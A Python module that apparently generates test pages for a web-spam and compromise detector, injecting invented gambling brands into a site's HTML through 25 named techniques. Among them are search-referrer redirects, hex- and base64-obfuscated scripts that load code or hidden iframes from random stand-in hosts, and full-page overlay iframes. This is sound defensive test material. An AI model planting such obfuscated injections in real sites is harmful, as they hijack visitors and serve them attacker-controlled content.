"""The ways in which the bundled site's pages are spoilt, each with what was put in and which findings it must give.

The brands are made up and stand in no list. Each spoiler gets the page, its story and a random generator, and returns
(page, [injected strings], what the article must be (None: as before), [finding kinds])."""
import base64

BRANDS = ["金爵国际娱乐", "凯旋宝88", "龙庭汇彩票", "oktop7体育", "星耀城娱乐场", "乐盈坊", "瑞丰棋牌", "vx365皇庭"]
TAILS = ["官网", "app下载", "登录入口", "手机版", "注册送彩金", "投注平台"]


def brand(r):
    return r.choice(BRANDS) + r.choice(TAILS)


def host(r):
    return "www.%s.com" % "".join(r.choice("bcdfghjklmnpqrstvwxz0123456789") for _ in range(8))


def spam_links(r, n=8):
    words = [brand(r) for _ in range(n)]
    return "".join('<a href="http://%s/">%s</a> ' % (host(r), w) for w in words), words


def before(page, mark, what):
    i = page.lower().rfind(mark)
    assert i >= 0, mark
    return page[:i] + what + page[i:]


def new_title(page, text):
    low = page.lower()
    a, b = low.index("<title>") + 7, low.index("</title>")
    return page[:a] + text + page[b:]


def title(page, s, r):
    spam = "%s_%s-%s" % (brand(r), r.choice(BRANDS), r.choice(TAILS))
    return new_title(page, spam), [spam], None, ["title-spam"]


def title_entities(page, s, r):
    spam = "%s-%s" % (brand(r), brand(r))
    return new_title(page, "".join("&#%d;" % ord(c) for c in spam)), [spam], None, ["title-spam"]


def keywords(page, s, r):
    spam = ",".join(brand(r) for _ in range(5))
    return page.replace("<title>", '<meta name="keywords" content="%s"><meta name="description" content="%s，%s">\n<title>' % (spam, brand(r), brand(r)), 1), [spam], None, ["meta-spam"]


def hidden(style):
    def f(page, s, r):
        l, words = spam_links(r)
        return before(page, "</body>", style % l), words, None, ["hidden-links"]
    return f


def hidden_by_class(page, s, r):
    l, words = spam_links(r)
    page = page.replace("<title>", "<style>.kx9{position:absolute;left:-5000px}</style><title>", 1)
    return before(page, "</body>", '<div class="kx9">%s</div>' % l), words, None, ["hidden-links"]


def hidden_by_script(page, s, r):
    l, words = spam_links(r)
    return before(page, "</body>", '<div id="q7">%s</div><script>document.getElementById("q7").style.display="none";</script>' % l), words, None, ["hidden-links"]


def friends(page, s, r):
    l, words = spam_links(r, 10)
    return before(page, "</body>", "<div class=\"links\">友情链接：%s</div>" % l), words, None, ["visible-links"]


def redirect(page, s, r):
    h = host(r)
    code = 'var s=document.referrer;if(/baidu|sogou|so\\.com|bing/i.test(s)){window.location.href="https://%s/?c=1";}' % h
    return before(page, "</body>", "<script>%s</script>" % code), [h], None, ["script-redirect"]


def packed(page, s, r):
    h = host(r)
    code = '<script src="https://%s/j.js"></script>' % h
    hexed = "".join("\\x%02x" % ord(c) for c in code)
    return before(page, "</body>", '<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"](\'%s\');</script>' % hexed), [h], None, ["script-packed"]


def packed_base64(page, s, r):
    h = host(r)
    code = base64.b64encode(('document.write("<iframe src=https://%s/ width=0 height=0></iframe>")' % h).encode()).decode()
    return before(page, "</body>", '<script>eval(atob("%s"))</script>' % code), [h], None, ["script-packed"]


def overlay(page, s, r):
    h = host(r)
    return before(page, "</body>", '<iframe src="https://%s/" style="position:fixed;top:0;left:0;width:100%%;height:100%%;z-index:99999;border:0"></iframe>' % h), [h], None, ["iframe-overlay"]


def noise(page, s, r):
    tags = "".join('<%s id="tq5" class="%s"></%s>' % (t, r.choice(["aswe", "qplm", "zzkt"]), t) for t in ["wqzk", "xpdlo", "jjrtv", "wqzk", "pltmm", "xpdlo"] * 3)
    return before(page, "</body>", tags), [], None, ["noise-tags"]


def mid_sentence(page, s, r):
    words = []
    for p in s.paragraphs[1:4]:
        i = p.index("，")
        words.append(brand(r))
        page = page.replace(p[:i], p[:i] + words[-1], 1)
    return page, words, None, ["body-spam"]


def paragraph(page, s, r):
    spam = "%s是目前最受玩家欢迎的平台，%s，注册即送彩金，提款秒到账，真人荷官在线发牌，火爆体验等你来玩。" % (brand(r), brand(r))
    p = s.paragraphs[2]
    i = page.index(p) + len(p)
    j = page.index(">", i) + 1
    return page[:j] + "<p>%s</p>" % spam + page[j:], [spam], None, ["body-spam"]


def substitution(page, s, r):
    """The agency's name replaced by a brand wherever it stands, as content farms republish an institution's pages."""
    b = "oktop7体育"
    for was, now in (("石笋区有关部门", b + "党委"), ("石笋区教育局", b), ("石笋区", b)):
        page = page.replace(was, now)
    return page, [b], False, ["brand-substitution"]


SYNONYMS = {"组织": "构造", "群众": "大众", "检查": "查抄", "工作": "事情", "问题": "题目", "继续": "接续", "重点": "重心", "发展": "成长", "提高": "进步", "服务": "效劳", "建设": "扶植", "安全": "平安"}
STRAY = "啦哗像目足悍高骏麦盛棉竹鹊待达幽愁务援饲昭蜗叉莫歉溪托嫁噬枝权豚柚湛蒜坪碾绒瓷砂锚犁苔芹屉橘帆浆驼纱铸鳞蔗槐桨鸦藕秤钉绳鞋帽纸笔墨砚琴弦鼓锣镜梳伞扇灯烛炉灶锅碗瓢盆桶缸"


def rewriting(page, s, r):
    """Pseudo-original text: words swapped for synonyms that do not fit, and runs of characters that mean nothing."""
    runs = []
    for p in s.paragraphs:
        q = p
        for was, now in SYNONYMS.items():
            q = q.replace(was, now)
        runs.append("".join(r.sample(STRAY, 72)))
        i = q.index("，") + 1
        page = page.replace(p, q[:i] + runs[-1] + "。" + q[i:])
    return page, [], False, ["noise-text"]


# Enough of a table for the text of the site: simplified, traditional, reading.
S2T = dict(zip("县镇乡进项务医质护产战区实开发动员设众导组织检查风险阶进应检验业门关络级条现统绿环优农营习",
               "縣鎮鄉進項務醫質護產戰區實開發動員設眾導組織檢查風險階進應檢驗業門關絡級條現統綠環優農營習"))
READING = {"縣": "xiàn", "進": "jìn", "項": "xiàng", "務": "wù", "質": "zhì", "產": "chǎn", "區": "qū", "實": "shí", "發": "fā", "動": "dòng",
           "導": "dǎo", "檢": "jiǎn", "應": "yīng", "業": "yè", "關": "guān", "絡": "luò", "級": "jí", "條": "tiáo", "現": "xiàn", "統": "tǒng", "環": "huán", "優": "yōu", "農": "nóng"}


def pinyin(page, s, r):
    def spoil(text):
        return "".join(S2T.get(c, c) + ("(%s)" % READING[S2T[c]] if S2T.get(c) in READING else "") for c in text)
    for t in [s.title] + s.paragraphs:
        page = page.replace(t, spoil(t))
    return page, ["(jìn)", "(shí)", "(fā)"], None, ["pinyin-annotation"]


def emoji(page, s, r):
    marks = "✒📼🎲🧧♠"
    for p in s.paragraphs:
        page = page.replace(p, "".join((r.choice(marks) if c in "，。、" and r.random() < .7 else "") + c for c in p))
    return page, list(marks), None, ["inserted-symbol"]


def warning(page, s, r):
    b = "龙庭汇彩票开奖官网"
    paras = ["近年来，%s凭借便捷的体验受到广大用户的喜爱，%s为大家提供最新的开奖资讯和走势分析。" % (b, b),
             "温馨提示：远离赌博，理性娱乐。%s始终坚持公平公正，%s支持多种充值方式，手机版随时随地畅玩。" % (b, b),
             "如需了解更多，请认准%s，谨防假冒。点击%s立即注册，新会员可领取彩金。" % (b, b)]
    for p in s.paragraphs:
        page = page.replace(p, paras[len(p) % 3])
    page = page.replace(s.title, "警惕网络陷阱：%s详解" % b)
    return page, [b], False, ["disguised-spam"]


def all_spam(page, s, r):
    para = lambda: "，".join(brand(r) for _ in range(6)) + "。"
    for p in s.paragraphs:
        page = page.replace(p, para())
    t = "%s_%s" % (brand(r), brand(r))
    return page.replace(s.title, t), [t], False, ["spam-page"]


WAYS = [
    ("title", "province", title), ("title-entities", "county", title_entities), ("keywords", "media", keywords),
    ("hidden-none", "city", hidden('<div style="display:none">%s</div>')), ("hidden-off", "province", hidden('<div style="position:absolute;top:-3000px">%s</div>')),
    ("hidden-zero", "bureau", hidden('<div style="height:0;overflow:hidden">%s</div>')), ("hidden-font", "media", hidden('<span style="font-size:0px">%s</span>')),
    ("hidden-marquee", "city", hidden('<marquee width=1 height=1>%s</marquee>')), ("hidden-color", "county", hidden('<div style="color:#fff">%s</div>')),
    ("hidden-class", "school", hidden_by_class), ("hidden-script", "media", hidden_by_script), ("friend-links", "county", friends),
    ("redirect", "province", redirect), ("packed-hex", "city", packed), ("packed-base64", "school", packed_base64), ("overlay", "bureau", overlay),
    ("noise-tags", "county", noise), ("mid-sentence", "province", mid_sentence), ("paragraph", "media", paragraph), ("substitution", "school", substitution),
    ("pinyin", "county", pinyin), ("emoji", "school", emoji), ("disguised", "media", warning), ("all-spam", "city", all_spam),
    ("rewriting", "bureau", rewriting),
]
